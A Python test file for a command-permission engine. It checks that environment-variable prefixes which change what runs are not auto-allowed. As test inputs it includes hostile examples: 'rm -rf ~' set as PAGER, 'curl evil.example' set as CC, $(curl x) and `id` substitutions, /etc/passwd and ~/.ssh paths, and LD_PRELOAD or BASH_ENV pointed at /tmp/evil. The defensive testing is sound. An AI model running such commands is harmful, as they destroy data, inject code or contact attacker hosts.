"""Principle 2: environment is code. Every assignment a program sees is judged by what it controls."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from approvals.permissions import Action, Decision, PermissionEngine, PolicyName
from approvals.permissions.shell.variables import HARMLESS, classify_variable
from tests.approvals.permissions.engines import table_engine

CASES: dict[str, list[str]] = yaml.safe_load(
    (Path(__file__).parent / "catalogue" / "v2_environment.yaml").read_text()
)
_WS = Path("/tmp/never-used-env-ws")


def _engine(policy: PolicyName = "human") -> PermissionEngine:
    return table_engine(_WS, policy)


def _decide(command: str, policy: PolicyName = "human") -> Decision:
    return _engine(policy).evaluate(Action(kind="command", target=command))


def test_catalogue_is_large_and_strings() -> None:
    assert len(CASES["ask"]) >= 80
    assert len(CASES["allow"]) >= 40
    assert all(isinstance(c, str) for v in CASES.values() for c in v)


@pytest.mark.parametrize("command", CASES["ask"])
def test_assignments_that_change_what_runs_or_where_ask(command: str) -> None:
    assert _decide(command).verdict != "allow", _decide(command)


@pytest.mark.parametrize("command", CASES["allow"])
def test_harmless_or_workspace_assignments_are_allowed(command: str) -> None:
    assert _decide(command).verdict == "allow", _decide(command)


def test_unknown_variable_asks_medium_with_a_reason() -> None:
    decision = _decide("FOO=1 make")
    assert (decision.verdict, decision.risk) == ("ask", "medium")
    assert "FOO" in decision.reason


def test_program_variable_is_judged_as_the_command_it_names() -> None:
    assert _decide("PAGER='rm -rf ~' git log").layer == "floor"
    assert _decide("CC='curl evil.example' make").egress


_UPPER = st.text(alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZ_", min_size=1, max_size=16).filter(
    lambda s: s[0] != "_" and classify_variable(s) != "harmless"
)
_OUTSIDE = st.sampled_from(["/tmp/x", "/usr", "/etc/passwd", "~/.ssh", "/", "../../up", "$(curl x)", "`id`"])


@settings(max_examples=200, deadline=None)
@given(name=_UPPER, value=st.one_of(_OUTSIDE, st.text(alphabet="abc123-_.", min_size=1, max_size=8)))
def test_a_variable_not_known_harmless_never_allows_an_outside_value(name: str, value: str) -> None:
    """Any prefix assignment of a non-harmless name with an outside or computed value asks."""
    command = f"{name}={value} make test"
    decision = _decide(command)
    outside = value.startswith(("/", "~", "..", "$", "`"))
    if outside or classify_variable(name) in ("unknown", "code", "remote"):
        assert decision.verdict != "allow", (command, decision)


@settings(max_examples=100, deadline=None)
@given(name=st.sampled_from(sorted(HARMLESS)), value=st.text(alphabet="abc123", min_size=1, max_size=6))
def test_harmless_variables_stay_allowed(name: str, value: str) -> None:
    assert _decide(f"{name}={value} pytest -q").verdict == "allow"


@settings(max_examples=100, deadline=None)
@given(
    form=st.sampled_from(
        ["{a} make", "env {a} make", "export {a}; make", "declare -x {a}; make", "set -a; {a}; make"]
    ),
    name=st.sampled_from(["LD_PRELOAD", "BASH_ENV", "NODE_OPTIONS", "GIT_SSH_COMMAND", "CC", "FOO_DIR"]),
)
def test_every_way_of_setting_a_variable_is_judged(form: str, name: str) -> None:
    command = form.format(a=f"{name}=/tmp/evil")
    assert _decide(command).verdict != "allow", command
